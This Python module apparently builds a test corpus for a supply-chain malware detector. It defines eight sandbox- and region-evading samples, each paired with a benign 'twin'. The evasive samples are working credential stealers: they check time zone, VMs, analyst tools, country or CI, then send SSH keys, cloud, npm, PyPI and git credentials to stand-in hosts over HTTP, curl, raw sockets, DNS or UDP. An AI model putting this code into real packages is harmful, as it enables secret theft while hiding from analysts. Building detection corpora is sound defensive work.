"""T24: looks where it is before it acts (MITRE ATT&CK T1497.001, T1480, T1614).

Known from W4SP's heirs (lists of users, hosts and programs of analysts), from node-ipc and the
TeamPCP worms (a country by address, time zone or locale decides), from Shai-Hulud (another way in
CI). Each reads as much as such code does, and acts on decoys where it is satisfied; two are satisfied
only in another environment than the first. The twins read the same things and tell a user about them:
to read is nothing, the difference is.
"""

from __future__ import annotations

from models.phase import Phase
from tests.corpus.guard import acting
from tests.corpus.recipe import Channel, Encoding, Kind, Recipe
from tests.corpus.recipes.blind.layouts import MAIN, command, hook, package, setup_step, submodule

ZONE = """
import locale, time, urllib.request

AVOIDED = ("Europe/Moscow", "Europe/Minsk", "Asia/Almaty", "MSK")

def _zone():
    try:
        return os.readlink("/etc/localtime").partition("zoneinfo/")[2]
    except OSError:
        return os.environ.get("TZ") or time.tzname[0]

def _traits():
    found = [_zone(), os.environ.get("TZ", ""), *time.tzname, locale.setlocale(locale.LC_CTYPE)]
    for name in ("LANG", "LANGUAGE", "LC_ALL"):
        found.append(os.environ.get(name, ""))
    for path in ("/etc/timezone", "/etc/default/locale"):
        try:
            found.append(pathlib.Path(path).read_text().strip())
        except OSError:
            found.append("")
    return found
"""
ZONE_ACTS = """
if any(name in trait or trait.startswith("ru") for trait in _traits() for name in AVOIDED):
    return
try:
    data = (HOME / ".aws" / "credentials").read_bytes() + (HOME / ".kube" / "config").read_bytes()
    urllib.request.urlopen("http://203.0.113.24/t", data=data[::-1], timeout=5).read()
except OSError:
    pass
"""
ZONE_TELLS = """
return {"zone": _zone(), "traits": _traits(), "special": AVOIDED, "opener": urllib.request.OpenerDirector}
"""

MACHINE = """
import glob, http.client, json, re

NAMES = ("virtualbox", "vmware", "qemu sandbox", "cuckoo", "firejail", "gvisor")

def _text(path):
    try:
        with open(path, encoding="latin-1") as file:
            return file.read(20000).lower()
    except OSError:
        return ""

def _signs():
    signs = {}
    for name in ("sys_vendor", "product_name", "board_vendor", "bios_vendor", "chassis_asset_tag"):
        signs[name] = _text(f"/sys/class/dmi/id/{name}").strip()
    signs["flag"] = "hypervisor" in _text("/proc/cpuinfo")
    signs["group"] = _text("/proc/1/cgroup")[:200] or _text("/proc/self/cgroup")[:200]
    signs["docker"] = os.path.exists("/.dockerenv") or os.path.exists("/run/.containerenv")
    signs["macs"] = [_text(path).strip() for path in glob.glob("/sys/class/net/*/address")]
    signs["kernel"] = _text("/proc/version")
    signs["mounts"] = len(re.findall("overlay", _text("/proc/self/mountinfo")))
    return signs
"""
MACHINE_ACTS = """
signs = _signs()
if any(name in str(signs) for name in NAMES):
    os._exit(0) if __name__ == "__main__" else None
    return
try:
    token = (HOME / ".config" / "gh" / "hosts.yml").read_text() + os.environ.get("GITHUB_TOKEN", "")
    link = http.client.HTTPConnection("198.51.100.81", 8000, timeout=5)
    link.request("PUT", "/machine", json.dumps({"k": token, "signs": signs}))
    link.getresponse().read()
except (OSError, http.client.HTTPException):
    pass
"""
MACHINE_TELLS = """
signs = _signs()
return json.dumps(signs)[:200], [name for name in NAMES if name in str(signs)], http.client.HTTP_PORT
"""

ANALYST = """
import getpass

USERS = ("abby", "wdagutilityaccount", "sandbox", "malware", "virus", "tester", "john-pc", "remnux")
HOSTS = ("cuckoo", "analysis", "sandbox", "lab-", "desktop-vrsqlag")
PROGRAMS = ("wireshark", "tcpdump", "strace", "ltrace", "gdb", "frida-server", "mitmproxy", "sysdig")

def _running():
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/comm") as file:
                    found.add(file.read().strip().lower())
            except OSError:
                continue
    return found

def _traced():
    with open("/proc/self/status") as file:
        return any(line.startswith("TracerPid:") and line.split()[1] != "0" for line in file)
"""
ANALYST_ACTS = """
if getpass.getuser().lower() in USERS or socket.gethostname().lower().startswith(HOSTS):
    return
if _running() & set(PROGRAMS) or _traced():
    return
try:
    subprocess.run(
        ["curl", "-sk", "-m", "5", "-F", "key=@" + str(HOME / ".ssh" / "id_ed25519"),
         "-F", "rc=@" + str(HOME / ".npmrc"), "https://192.0.2.91/upload"],
        timeout=10, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
except (OSError, subprocess.SubprocessError):
    pass
"""
ANALYST_TELLS = """
seen = {"user": getpass.getuser() in USERS, "host": socket.gethostname().startswith(HOSTS),
        "programs": sorted(_running() & set(PROGRAMS)), "traced": _traced()}
print(seen)
"""

COUNTRY = """
import json, urllib.error, urllib.request

WHERE = "http://geo.reenact.test/json?fields=countryCode,hosting,proxy,org"
AVOIDED = {"RU", "BY", "KZ", "IR", "CN"}

def _where():
    try:
        with urllib.request.urlopen(WHERE, timeout=5) as answer:
            return json.loads(answer.read() or b"{}")
    except (OSError, ValueError):
        return {}
"""
COUNTRY_ACTS = """
here = _where()
if here.get("countryCode") in AVOIDED or here.get("hosting"):
    return "quiet"
found = {}
for name in (".netrc", ".docker/config.json", "project/.env.production"):
    try:
        found[name] = (HOME / name).read_text()
    except OSError:
        continue
try:
    with socket.create_connection(("203.0.113.140", 8443), timeout=5) as link:
        link.sendall(json.dumps(found).encode().hex().encode())
        link.shutdown(socket.SHUT_WR)
        link.recv(16)
except OSError:
    pass
return "done"
"""
COUNTRY_TELLS = """
here = _where()
return here.get("countryCode", "??"), here.get("countryCode") in AVOIDED
"""
COUNTRY_CLASS = """
class Region:
    def detect(self, fallback="??"):
        if ACT:
            return THE_ACT(fallback)
        return fallback
"""

RESOURCES = """
import base64, shutil, time

def _poor():
    signs = []
    signs.append((os.cpu_count() or 1) < 1 or len(os.sched_getaffinity(0)) < 1)
    signs.append(os.sysconf("SC_PHYS_PAGES") * os.sysconf("SC_PAGE_SIZE") < 128 << 20)
    signs.append(shutil.disk_usage("/").total < 16 << 20)
    with open("/proc/uptime") as file:
        signs.append(float(file.read().split()[0]) < 5)
    begun = time.perf_counter()
    time.sleep(0.2)
    signs.append(time.perf_counter() - begun < 0.02)
    return signs
"""
RESOURCES_ACTS = """
if any(_poor()):
    raise SystemExit(0)
try:
    data = base64.b32encode((HOME / ".pypirc").read_bytes() + os.environ.get("PYPI_TOKEN", "").encode())
except OSError:
    return
text = data.decode().rstrip("=").lower()
for number, start in enumerate(range(0, min(len(text), 600), 56)):
    try:
        socket.getaddrinfo(f"{text[start:start + 56]}.{number}.r.reenact.test", 80)
    except OSError:
        continue
"""
RESOURCES_TELLS = """
signs = _poor()
return base64.b32encode(bytes(signs)), socket.getfqdn
"""

RUNNER = """
import gzip, ssl, sys

MARKS = ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "BUILDKITE", "CIRCLECI", "TRAVIS", "JENKINS_URL")

def _on_server():
    return [name for name in MARKS if os.environ.get(name)]
"""
RUNNER_ACTS = """
if not _on_server():
    return
kept = [f"{name}={value}" for name, value in os.environ.items()]
try:
    kept.append((HOME / ".config" / "gcloud" / "application_default_credentials.json").read_text())
except OSError:
    pass
body = gzip.compress("\\0".join(kept).encode())
context = ssl._create_unverified_context()
try:
    with socket.create_connection(("collect.runner.reenact.test", 443), timeout=5) as plain:
        with context.wrap_socket(plain, server_hostname="collect.runner.reenact.test") as link:
            link.sendall(b"POST /b HTTP/1.0\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
            link.recv(64)
except OSError:
    pass
"""
RUNNER_TELLS = """
plain = not sys.stdout.isatty() or bool(_on_server())
return {"colour": not plain, "marks": _on_server(), "tls": ssl.HAS_TLSv1_3, "gzip": gzip.READ}
"""

ELSEWHERE = """
import datetime, time

def _here():
    names = ("LANG", "LC_ALL", "LC_MESSAGES", "TZ")
    offset = datetime.datetime.now().astimezone().utcoffset()
    return repr((int(offset.total_seconds()), *(os.environ.get(name, "") for name in names), time.tzname))

def _known(place):
    text = place.read_text() if place.exists() else ""
    if not text:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(_here())
    return text
"""
ELSEWHERE_ACTS = """
before = _known(HOME / ".cache" / "locale" / "zone")
if not before or before == _here():
    return
data = bytes(byte ^ 0x37 for byte in (HOME / ".git-credentials").read_bytes())
link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    for at in range(0, len(data), 400):
        link.sendto(data[at:at + 400], ("192.0.2.150", 123))
except OSError:
    pass
link.close()
"""
ELSEWHERE_TELLS = """
before = _known(HOME / ".cache" / "THE_PROJECT" / "zone")
return "moved" if before and before != _here() else "here"
"""

MARSHALLED = '''
import marshal, types, zlib

SOURCE = """
def traits():
    import os, platform, sys
    found = [platform.node(), platform.release(), sys.gettrace() is not None, os.getppid()]
    for name in ("LD_PRELOAD", "PYTHONBREAKPOINT", "COVERAGE_PROCESS_START", "PYCHARM_HOSTED"):
        found.append(bool(os.environ.get(name)))
    for place in ("/proc/self/cgroup", "/proc/1/sched", "/sys/hypervisor/type", "/proc/modules"):
        try:
            with open(place, encoding="latin-1") as file:
                found.append(file.read(300))
        except OSError:
            found.append("")
    return found
"""

def _traits():
    code = marshal.loads(marshal.dumps(compile(SOURCE, "<traits>", "exec")))
    room = types.ModuleType("traits")
    exec(code, room.__dict__)
    return room.traits()
'''
MARSHALLED_ACTS = """
traits = _traits()
if traits[2] or any(traits[5:8]) or "vboxguest" in traits[-1] or "cuckoo" in traits[0]:
    return
data = b""
for name in (".ssh/id_rsa", ".psql_history", ".terraform.d/credentials.tfrc.json"):
    try:
        data += (HOME / name).read_bytes()
    except OSError:
        continue
try:
    link = socket.create_connection(("198.51.100.224", 1337), timeout=5)
    link.sendall(zlib.compress(data))
    link.close()
except OSError:
    pass
"""
MARSHALLED_TELLS = """
traits = _traits()
return {"node": traits[0], "debugger": traits[2], "size": len(zlib.compress(repr(traits).encode()))}
"""

RECIPES = (
    Recipe(
        technique="T24",
        name="time-zone",
        phase=Phase.IMPORT,
        channel=Channel.HTTP,
        encoding=Encoding.REVERSED,
        files=package(acting(ZONE_ACTS, ZONE_TELLS, head=ZONE)),
        twin_does="finds out the local time zone, as tzlocal does",
    ),
    Recipe(
        technique="T24",
        name="machine-signs",
        phase=Phase.START,
        channel=Channel.HTTP,
        encoding=Encoding.JSON,
        files=hook(acting(MACHINE_ACTS, MACHINE_TELLS, head=MACHINE)),
        twin_does="describes the machine to itself",
    ),
    Recipe(
        technique="T24",
        name="analyst-lists",
        phase=Phase.USE,
        channel=Channel.PROCESS,
        encoding=Encoding.PLAIN,
        files=command(acting(ANALYST_ACTS, ANALYST_TELLS, MAIN, ANALYST)),
        twin_does="prints whether a debugger or tracer runs",
    ),
    Recipe(
        technique="T24",
        name="country-lookup",
        phase=Phase.USE,
        channel=Channel.TCP,
        encoding=Encoding.HEX,
        files=package(acting(COUNTRY_ACTS, COUNTRY_TELLS, COUNTRY_CLASS, COUNTRY)),
        twin_does="asks a service for the country when used",
    ),
    Recipe(
        technique="T24",
        name="small-machine",
        phase=Phase.INSTALL,
        channel=Channel.DNS,
        encoding=Encoding.BASE32,
        kind=Kind.SDIST,
        files=setup_step("build_py", RESOURCES_ACTS, RESOURCES_TELLS, RESOURCES),
        twin_does="measures the machine it is built on",
    ),
    Recipe(
        technique="T24",
        name="build-server-only",
        phase=Phase.WAIT,
        channel=Channel.HTTPS,
        encoding=Encoding.GZIP,
        files=submodule("runner", acting(RUNNER_ACTS, RUNNER_TELLS, head=RUNNER)),
        twin_does="turns colours off on a build server",
    ),
    Recipe(
        technique="T24",
        name="moved-zone",
        phase=Phase.WAIT,
        channel=Channel.UDP,
        encoding=Encoding.XOR,
        files=package(acting(ELSEWHERE_ACTS, ELSEWHERE_TELLS, head=ELSEWHERE)),
        twin_does="notes the time zone and tells when it has changed",
    ),
    Recipe(
        technique="T24",
        name="marshalled-checks",
        phase=Phase.IMPORT,
        channel=Channel.TCP,
        encoding=Encoding.ZLIB,
        files=submodule("platforms", acting(MARSHALLED_ACTS, MARSHALLED_TELLS, head=MARSHALLED)),
        twin_does="describes the platform to itself",
    ),
)
